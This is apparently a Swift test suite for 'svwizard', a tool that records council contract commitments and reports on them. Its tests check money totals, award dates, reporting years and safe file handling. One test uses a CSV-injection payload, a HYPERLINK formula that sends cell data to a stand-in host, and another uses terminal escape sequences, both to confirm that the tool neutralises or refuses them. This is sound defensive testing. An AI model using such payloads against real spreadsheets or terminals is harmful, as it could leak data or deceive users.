import Foundation
import Testing

/// Where one stage hands over to the next, through the real binary: the same £ from bid to
/// contract, a contract entered after the fact still counted by its dates, a year under way
/// reported so far, one rule for a period's last day, and outside text that reaches a
/// spreadsheet or a screen made inert.
@Suite("The seams between stages, run as programs", .serialized)
struct LifecycleSeamsTests {
    let runner = BinaryRunner()
    var register: String { runner.home.appendingPathComponent("register.sqlite").path }
    /// The day these tests are run "on": 6 December 2026, six days into Rotherham's 2026/27.
    static let today = ["SVWIZARD_TODAY": "2026-12-06"]

    func place(_ scenario: String) -> URL { runner.home.appendingPathComponent("svwizard-practice/\(scenario)") }

    func run(_ arguments: [String], in scenario: String = "thermal-works", input: String = "") throws -> BinaryRunner.Result {
        try runner.run(arguments + ["--register", register], input: input, extraEnvironment: Self.today, directory: place(scenario))
    }

    func bids(_ scenario: String) throws {
        let made = try runner.run(["workshop", "bids", scenario])
        try #require(made.status == 0, "\(made.stderr)")
    }

    func json(_ text: String) throws -> [String: Any] {
        try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any])
    }

    @Test("the contract's committed value is the bid's total to the penny, for every workshop bid")
    func sameMoneyBidToContract() throws {
        for scenario in ["thermal-works"] {
            try bids(scenario)
            let folder = place(scenario).appendingPathComponent("bids")
            let files = try FileManager.default.contentsOfDirectory(atPath: folder.path).filter { $0.hasSuffix(".svbundle.zip") }.sorted()
            #expect(!files.isEmpty)
            for file in files {
                let submission = try #require(try BundleFiles.read(Data(contentsOf: folder.appendingPathComponent(file))).first { $0.0 == "submission.json" }?.1)
                let valuation = try #require((try JSONSerialization.jsonObject(with: submission) as? [String: Any])?["valuation"] as? [String: Any])
                let bidTotal = try #require(valuation["total"] as? String)
                let reference = "\(scenario)-\(file.prefix { $0 != "." })"
                let award = try run(["contract", "award", "bids/\(file)", "--tender", "tender.json", "--reference", reference, "--directorate", "D",
                                     "--manager", "M", "--no-input"], in: scenario)
                guard award.status == 0 else { continue }  // a bid that fails its checks is not awarded
                let show = try run(["contract", "show", reference, "--json"], in: scenario)
                let contract = try json(show.stdout)
                let schedule = try #require(contract["schedule"] as? [String: Any])
                let lines = try #require(schedule["lines"] as? [[String: Any]])
                let pence = lines.compactMap { $0["value"] as? String }.map { Decimal(string: $0)! }.reduce(0, +)
                #expect(pence == Decimal(string: bidTotal)!, "\(scenario) \(file): the bid says £\(bidTotal), the schedule adds up to £\(pence)")
            }
        }
    }

    @Test("a contract entered after the fact: awarded on its start, counted in the year it ran, however late it was entered")
    func enteredAfterTheFact() throws {
        try bids("thermal-works")
        // Entered on 6 December 2026 with no --on: the award date is the contract's start, said back.
        let award = try run(["contract", "award", "bids/maltby-joinery.svbundle.zip", "--tender", "tender.json", "--reference", "TW-LATE",
                             "--directorate", "Regeneration and Environment", "--manager", "Sam Patel", "--no-input"])
        #expect(award.status == 0, "\(award.stderr)")
        #expect(award.stdout.contains("Award date: 1 April 2025 (the contract's start; --on gives another)."), "\(award.stdout)")
        // A second contract entered with today's date as its award: its delivery still counts by its periods' dates.
        #expect(try run(["contract", "award", "bids/maltby-joinery.svbundle.zip", "--tender", "tender.json", "--reference", "TW-TODAY",
                         "--directorate", "Regeneration and Environment", "--manager", "Sam Patel", "--on", "6 December 2026", "--no-input"]).status == 0)
        let year = try run(["report", "--year", "2024/25", "--json"])
        #expect(year.status == 0, "\(year.stderr)")
        let report = try json(year.stdout)
        let inPeriod = try #require(report["inPeriod"] as? [String: Any])
        // Only TOM6 is valued: 1 FTE in year 1 at £12,769.68. 2024/25 (December 2024 to November 2025) holds
        // the quarters ending 31 May, 31 August and 30 November 2025: £2,170.85 + £3,192.42 + £3,192.42 = £8,555.69 each.
        #expect(inPeriod["due"] as? String == "17111.38", "\(inPeriod)")
        // Commitments count in the year of award: only TW-LATE was awarded in 2024/25.
        #expect(inPeriod["committed"] as? String == "12769.68", "\(inPeriod)")
        #expect(!year.stdout.contains("no contracts yet"))
        let text = try run(["report", "--year", "2024/25"])
        #expect(text.stdout.contains("Committed since the first contract began (1 April 2025)"), "\(text.stdout)")
    }

    @Test("a year under way is reported so far, with no shortfall for what is not yet due; a year not begun is refused; the default year is said")
    func yearSoFar() throws {
        try bids("thermal-works")
        #expect(try run(["contract", "award", "bids/maltby-joinery.svbundle.zip", "--tender", "tender.json", "--reference", "TW1",
                         "--directorate", "D", "--manager", "M", "--no-input"]).status == 0)
        let soFar = try run(["report", "--year", "2026/27", "--json"])
        #expect(soFar.status == 0, "\(soFar.stderr)")
        let report = try json(soFar.stdout)
        let range = try #require(report["range"] as? [String: Any])
        #expect(range["name"] as? String == "2026/27 so far")
        #expect(range["to"] as? String == "2026-12-06")
        let inPeriod = try #require(report["inPeriod"] as? [String: Any])
        #expect(inPeriod["shortfall"] as? String == "0" && inPeriod["due"] as? String == "0", "\(inPeriod)")
        let later = try run(["report", "--year", "2027/28"])
        #expect(later.status == 64 && later.stderr.contains("2027/28 has not started yet"), "\(later.stderr)")
        let chosen = try run(["report"])
        #expect(chosen.status == 0)
        #expect(chosen.stdout.replacingOccurrences(of: "\n", with: " ").contains("Reporting 2025/26, the last complete reporting year (1 December 2025 to 30 November 2026)"),
                "\(chosen.stdout)")
    }

    @Test("track show --as-of and report --to count a period that ends that day the same way")
    func lastDayCountsOnce() throws {
        try bids("thermal-works")
        #expect(try run(["contract", "award", "bids/maltby-joinery.svbundle.zip", "--tender", "tender.json", "--reference", "TW1",
                         "--directorate", "D", "--manager", "M", "--no-input"]).status == 0)
        for (day, due) in [("2025-05-30", "0"), ("2025-05-31", "2170.85"), ("2025-08-31", "5363.27")] {
            let track = try json(try run(["track", "show", "TW1", "--as-of", day, "--json"]).stdout)
            let tracking = try #require(track["tracking"] as? [String: Any] ?? track)
            let total = try #require(tracking["total"] as? [String: Any], "\(track.keys)")
            let report = try json(try run(["report", "--from", "2025-04-01", "--to", day, "--json"]).stdout)
            let inPeriod = try #require(report["inPeriod"] as? [String: Any])
            #expect(total["due"] as? String == due, "track show on \(day): \(total)")
            #expect(inPeriod["due"] as? String == due, "report to \(day): \(inPeriod)")
        }
    }

    @Test("report.csv neutralises a directorate or supplier that a spreadsheet would run as a formula")
    func reportCSVInjection() throws {
        try bids("thermal-works")
        let hostile = "=HYPERLINK(\"http://x/?\"&A1,\"Click\")"
        #expect(try run(["contract", "award", "bids/maltby-joinery.svbundle.zip", "--tender", "tender.json", "--reference", "@SUM(A1)",
                         "--directorate", hostile, "--manager", "+M", "--no-input"]).status == 0)
        let made = try run(["report", "--year", "2024/25", "--output", "out"])
        #expect(made.status == 0, "\(made.stderr)")
        let csv = try String(contentsOf: place("thermal-works").appendingPathComponent("out/report.csv"), encoding: .utf8)
        let rows = csv.split(separator: "\r\n").dropFirst()
        #expect(!rows.isEmpty)
        for row in rows {
            #expect(row.hasPrefix("\"'@SUM(A1)\",\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"Click\"\")\","), "\(row)")
        }
        // No cell anywhere starts like a formula.
        for cell in csv.components(separatedBy: "\",\"") {
            #expect(!["=", "+", "-", "@"].contains(cell.first.map(String.init) ?? ""), "\(cell)")
        }
    }

    @Test("a control character in an option is refused before anything runs, naming the option", arguments: [
        "Regen\u{1B}]0;owned\u{07}", "Regen\u{1B}[2J", "Regen\u{9B}31m", "Line\nbreak",
    ])
    func controlCharactersInOptions(directorate: String) throws {
        try bids("thermal-works")
        let award = try run(["contract", "award", "bids/maltby-joinery.svbundle.zip", "--tender", "tender.json", "--reference", "TW1",
                             "--directorate", directorate, "--manager", "M", "--no-input"])
        #expect(award.status == 64, "\(award.stdout)\(award.stderr)")
        #expect(award.stderr.contains("--directorate \"Regen?") || award.stderr.contains("--directorate \"Line?break\""), "\(award.stderr)")
        #expect(award.stderr.contains("holds a control character"))
        #expect(!award.stderr.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x9B || $0.value == 0x07 })
        #expect(!FileManager.default.fileExists(atPath: register))
    }

    @Test("an 18-month contract: recorded in months, its schedule ending on its last day, said as 18 months")
    func eighteenMonthContract() throws {
        try bids("thermal-works")
        let record = try run(["contract", "record", "GS-18", "--title", "Grounds", "--supplier", "Green Spaces Ltd", "--postcode", "S60 1AE",
                              "--value", "£150,000", "--start", "1 April 2026", "--years", "18 months", "--directorate", "D", "--manager", "M",
                              "--on", "1 March 2026"])
        #expect(record.status == 0, "\(record.stdout)\(record.stderr)")
        let show = try run(["contract", "show", "GS-18"]).stdout.flattened
        #expect(show.contains("Runs from 1 April 2026 to 30 September 2027 (18 months)"), "\(show)")
        let json = try json(try run(["contract", "show", "GS-18", "--json"]).stdout)
        #expect(json["months"] as? Int == 18 && json["years"] as? Int == 2)
        for bad in ["0 months", "16 years", "umpteen months"] {
            let refused = try run(["contract", "record", "X-\(bad.count)", "--title", "T", "--supplier", "S", "--postcode", "S60 1AE", "--value", "1",
                                   "--start", "1 April 2026", "--years", bad, "--directorate", "D", "--manager", "M"])
            #expect(refused.status == 64 && refused.stderr.contains("is not a contract length"), "\(bad): \(refused.stderr)")
        }
    }

    @Test("assess: a contract of 18 months reaches the tender file as 2 contract years and 18 months")
    func assessInMonths() throws {
        let answers = AssessCommandTests.answers(value: "300000").replacingOccurrences(of: "years: 1,", with: "years: 18 months,")
        let file = try runner.file("months.yaml", answers)
        let assess = try runner.run(["assess", "--answers", file, "--no-input"], extraEnvironment: Self.today)
        #expect(assess.status == 0, "\(assess.stdout)\(assess.stderr)")
        let tender = try json(try String(contentsOf: runner.home.appendingPathComponent("tender.json"), encoding: .utf8))
        #expect(tender["years"] as? Int == 2 && tender["months"] as? Int == 18, "\(tender)")
        let record = try String(contentsOf: runner.home.appendingPathComponent("assessment.md"), encoding: .utf8)
        #expect(record.contains("Length: 18 months from 2025-04-01"))
    }
}

extension LifecycleSeamsTests {
    @Test("amounts at, one penny past and far past the largest svwizard records: contract record and spend import refuse, never wrap", arguments: [
        ("10000000000", true), ("10000000000.01", false), ("184467440738", false),
    ])
    func amountLimits(value: String, accepted: Bool) throws {
        try bids("thermal-works")
        let record = try run(["contract", "record", "BIG-1", "--title", "T", "--supplier", "S", "--postcode", "S60 1AE", "--value", value,
                              "--start", "1 April 2026", "--years", "2", "--directorate", "D", "--manager", "M"])
        #expect((record.status == 0) == accepted, "\(record.stdout)\(record.stderr)")
        if !accepted { #expect(record.status == 64 && record.stderr.flattened.contains("the largest amount is £10,000,000,000")) }
        let spend = place("thermal-works").appendingPathComponent("spend.csv")
        try "Date,Supplier,Amount,Category\n2025-05-01,Big Co,\"\(value)\",Works\n2025-05-02,Small Co,100.00,Works\n".write(to: spend, atomically: true, encoding: .utf8)
        let imported = try run(["spend", "import", "spend.csv"])
        let said = (imported.stdout + imported.stderr).flattened
        #expect(said.contains(accepted ? "Imported 2 payments" : "Imported 1 payment"), "\(said)")
        if !accepted { #expect(said.contains("line 2: the amount:") && said.contains("the largest amount is £10,000,000,000"), "\(said)") }
    }
}

extension LifecycleSeamsTests {
    @Test("a file name starting ~/ is read from the home folder, as the shell would, when it reaches svwizard unexpanded")
    func homeExpanded() throws {
        try bids("thermal-works")
        let home = runner.home.path
        let result = try runner.run(["validate", "~/svwizard-practice/thermal-works/bids/maltby-joinery.svbundle.zip"],
                                    extraEnvironment: ["HOME": home], directory: URL(fileURLWithPath: "/"))
        #expect(result.status == 0, "\(result.stdout)\(result.stderr)")
        #expect(result.stdout.contains("maltby-joinery.svbundle.zip: valid"))
    }
}

extension LifecycleSeamsTests {
    @Test("a named pipe or a device as the register is refused at once, nothing written beside it")
    func specialFilesRefused() throws {
        let fifo = runner.home.appendingPathComponent("pipe.sqlite").path
        #expect(mkfifo(fifo, 0o600) == 0)
        for path in [fifo, "/dev/null"] {
            let result = try #require(try runner.run(["contract", "list", "--register", path], timeout: 20), "svwizard hung on \(path)")
            #expect(result.status == 2 && result.stdout.flattened.contains("is not a file but"), "\(path): \(result.stdout)")
            let award = try #require(try runner.run(["report", "--year", "2024/25", "--register", path], timeout: 20))
            #expect(award.status == 2, "\(award.stdout)")
        }
        #expect(!FileManager.default.fileExists(atPath: "/dev/null-journal") && !FileManager.default.fileExists(atPath: "/dev/null-wal"))
    }
}

extension LifecycleSeamsTests {
    @Test("report --output is written whole or not at all: killed part-way it leaves nothing there, and the same command then succeeds")
    func reportFolderWholeOrNothing() throws {
        let sample = runner.home.appendingPathComponent("sample.sqlite").path
        #expect(try runner.run(["register", "sample", "--contracts", "400", sample]).status == 0)
        let output = runner.home.appendingPathComponent("report")
        for delay in [0.02, 0.05, 0.1] {
            let process = Process()
            process.executableURL = BinaryRunner.binary
            process.arguments = ["report", "--year", "2025/26", "--register", sample, "--output", output.path]
            process.environment = runner.environment
            process.standardOutput = FileHandle.nullDevice
            process.standardError = FileHandle.nullDevice
            try process.run()
            Thread.sleep(forTimeInterval: delay)
            kill(process.processIdentifier, SIGKILL)
            process.waitUntilExit()
            // Either nothing at the output, or all four files: never a part.
            let files = (try? FileManager.default.contentsOfDirectory(atPath: output.path)) ?? []
            #expect(files.isEmpty || files.sorted() == ["report.csv", "report.html", "report.json", "report.md"], "\(files)")
            if !files.isEmpty { try FileManager.default.removeItem(at: output) }
        }
        let again = try runner.run(["report", "--year", "2025/26", "--register", sample, "--output", output.path])
        #expect(again.status == 0, "\(again.stderr)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: output.path).sorted() == ["report.csv", "report.html", "report.json", "report.md"])
        let hidden = try FileManager.default.contentsOfDirectory(atPath: runner.home.path).filter { $0.hasPrefix(".report.partial-") }
        #expect(hidden.isEmpty, "\(hidden)")
    }
}

extension LifecycleSeamsTests {
    @Test("contract award at a terminal asks the award date, offering the contract's start for a contract entered after it began")
    func awardDateAsked() throws {
        try bids("thermal-works")
        let folder = place("thermal-works")
        let terminal = try PseudoTerminal(arguments: ["contract", "award", folder.appendingPathComponent("bids/maltby-joinery.svbundle.zip").path,
                                                      "--tender", folder.appendingPathComponent("tender.json").path, "--reference", "TW-ASKED",
                                                      "--register", register],
                                          environment: runner.terminalEnvironment.merging(Self.today) { $1 })
        try terminal.answer("Which directorate manages the contract?", "Regeneration and Environment")
        try terminal.answer("Who is the contract manager?", "Sam Patel")
        try terminal.answer("When was the contract awarded?", "")
        try terminal.waitFor("Recorded contract TW-ASKED")
        #expect(try terminal.waitForExit() == 0)
        #expect(terminal.screen.contains("1 April 2025"))
        let json = try json(try run(["contract", "show", "TW-ASKED", "--json"]).stdout)
        #expect(json["awarded"] as? String == "2025-04-01")
    }
}
